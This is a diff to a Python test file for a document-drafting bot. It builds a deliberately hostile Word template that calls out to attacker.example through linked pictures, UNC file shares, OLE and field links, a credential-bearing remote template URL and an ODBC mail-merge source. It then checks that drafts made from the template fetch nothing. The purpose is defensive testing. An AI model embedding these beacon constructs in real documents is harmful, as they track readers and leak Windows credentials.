@@ -985,7 +985,7 @@ BEACON = "attacker.example"  # every address the hostile template names is on th
 REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 
 
-def reaching_template(path: Path) -> Path:
+def reaching_template(path: Path, beacon: str = BEACON) -> Path:
     """A firm template, built now, holding each way a .docx makes Word fetch an address when it is opened:
     a linked picture, a hyperlink to a file share, an OLE link (its preview linked too), INCLUDEPICTURE (a
     complex field), INCLUDETEXT (a simple one), a LINK field nested in an IF in the header, a header
@@ -1014,8 +1014,8 @@ def reaching_template(path: Path) -> Path:
                 f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t>'
                 '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
 
-    share = "\\\\" + BEACON  # a Windows file share, \\attacker.example
-    seal = field(f' INCLUDEPICTURE "http://{BEACON}/seal.png" \\d ', "[firm seal]")
+    share = "\\\\" + beacon  # a Windows file share, \\attacker.example
+    seal = field(f' INCLUDEPICTURE "http://{beacon}/seal.png" \\d ', "[firm seal]")
     venue = f' INCLUDETEXT "{share}\\\\clauses\\\\venue.docx" '
     fees = field(f' LINK Excel.Sheet.12 "{share}\\\\fees.xlsx" "Sheet1" \\a ', "fees")
     doc = Document()
@@ -1023,13 +1023,13 @@ def reaching_template(path: Path) -> Path:
     part, body = doc.part, doc.element.body
     ext = lambda p, url, kind: p.relate_to(url, REL + kind, is_external=True)  # noqa: E731
     blocks = [
-        f'<w:p {ns}>{picture(ext(part, f"http://{BEACON}/beacon.png", "image"))}</w:p>',
-        f'<w:p {ns}><w:hyperlink r:id="{ext(part, f"file://{BEACON}/share/Engagement.docx", "hyperlink")}">'
+        f'<w:p {ns}>{picture(ext(part, f"http://{beacon}/beacon.png", "image"))}</w:p>',
+        f'<w:p {ns}><w:hyperlink r:id="{ext(part, f"file://{beacon}/share/Engagement.docx", "hyperlink")}">'
         '<w:r><w:t>the engagement letter</w:t></w:r></w:hyperlink></w:p>',
         f'<w:p {ns}><w:r><w:object><v:shape id="_x0000_i1025"><v:imagedata '
-        f'r:id="{ext(part, f"http://{BEACON}/preview.emf", "image")}"/></v:shape><o:OLEObject Type="Link" '
+        f'r:id="{ext(part, f"http://{beacon}/preview.emf", "image")}"/></v:shape><o:OLEObject Type="Link" '
         f'ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" UpdateMode="Always" '
-        f'r:id="{ext(part, f"http://{BEACON}/fees.xlsx", "oleObject")}"/></w:object></w:r></w:p>',
+        f'r:id="{ext(part, f"http://{beacon}/fees.xlsx", "oleObject")}"/></w:object></w:r></w:p>',
         f'<w:p {ns}>{seal}</w:p>',
         f'<w:p {ns}><w:fldSimple w:instr="{escape(venue, {chr(34): "&quot;"})}"><w:r><w:t>Venue clause.</w:t></w:r>'
         '</w:fldSimple></w:p>',
@@ -1043,15 +1043,15 @@ def reaching_template(path: Path) -> Path:
         f'<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
         f'{fees}<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
         f'<w:r><w:t>Fee table</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
-        f'{picture(ext(hp, f"http://{BEACON}/letterhead.png", "image"))}</w:p>'))
+        f'{picture(ext(hp, f"http://{beacon}/letterhead.png", "image"))}</w:p>'))
     settings = doc.settings.element
     sp = doc.part._settings_part
-    settings.insert(0, parse_xml(
-        f'<w:attachedTemplate {ns} r:id="{ext(sp, f"http://clerk:hunter2@{BEACON}/Pleading.dotm", "attachedTemplate")}"/>'))
+    remote = ext(sp, f"http://clerk:hunter2@{beacon}/Pleading.dotm", "attachedTemplate")
+    settings.insert(0, parse_xml(f'<w:attachedTemplate {ns} r:id="{remote}"/>'))
     settings.append(parse_xml(
         f'<w:mailMerge {ns}><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
-        f'<w:connectString w:val="DSN=clients;SERVER={BEACON}"/><w:query w:val="SELECT * FROM clients"/>'
-        f'<w:dataSource r:id="{ext(sp, f"file://{BEACON}/clients.mdb", "mailMergeSource")}"/></w:mailMerge>'))
+        f'<w:connectString w:val="DSN=clients;SERVER={beacon}"/><w:query w:val="SELECT * FROM clients"/>'
+        f'<w:dataSource r:id="{ext(sp, f"file://{beacon}/clients.mdb", "mailMergeSource")}"/></w:mailMerge>'))
     doc.save(str(path))
     return path
 
@@ -1093,6 +1093,34 @@ def test_a_word_template_that_reaches_outside_gives_drafts_that_do_not(tmp_path,
     for kind in ("attachedTemplate", "image", "hyperlink", "oleObject", "mailMergeSource", "field INCLUDEPICTURE",
                  "field INCLUDETEXT", "field LINK", "mail merge"):
         assert kind in warned[0], kind
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice) to open the documents")
+def test_an_office_suite_opening_the_draft_fetches_nothing(tmp_path):
+    """LibreOffice opening the template itself fetches its linked pictures from the beacon (the body's and the
+    header's); opening a draft made from it fetches nothing."""
+    from bot.draft import docx as D
+    from bot.draft.types import Draft
+
+    beacon = Listener(LOOPBACK)
+
+    def opened(name: str, data: bytes) -> list[str]:
+        """What the beacon was asked for while LibreOffice opened `data` (to print it as a PDF)."""
+        beacon.calls.clear()
+        (tmp_path / f"{name}.docx").write_bytes(data)
+        done = subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
+                               "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / f"{name}.docx")],
+                              capture_output=True, text=True, timeout=300)
+        assert done.returncode == 0 and (tmp_path / f"{name}.pdf").exists(), done.stderr
+        return list(beacon.calls)
+
+    try:
+        template = reaching_template(tmp_path / "firm.docx", beacon=beacon.url.removeprefix("http://"))
+        assert {"/beacon.png", "/letterhead.png"} <= set(opened("template", template.read_bytes()))
+        draft = Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree.")
+        assert opened("draft", D.to_bytes(draft, template=template)) == []
+    finally:
+        beacon.close()
 
 
 def test_a_template_that_reaches_nowhere_is_used_as_it_is(tmp_path):
